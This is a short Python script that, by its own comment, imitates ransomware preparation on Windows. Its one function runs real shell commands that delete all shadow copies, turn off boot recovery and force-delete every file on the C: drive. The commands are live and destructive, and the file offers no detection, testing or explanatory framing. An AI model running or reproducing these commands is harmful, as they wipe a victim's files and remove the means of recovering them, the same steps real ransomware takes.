# Imitates ransomware preparation on Windows: delete shadow copies and disable recovery before encrypting.
import subprocess


def prepare():
    subprocess.call("vssadmin delete shadows /all /quiet", shell=True)
    subprocess.call("bcdedit /set {default} recoveryenabled no", shell=True)
    subprocess.call(r"del /f /s /q C:\*", shell=True)
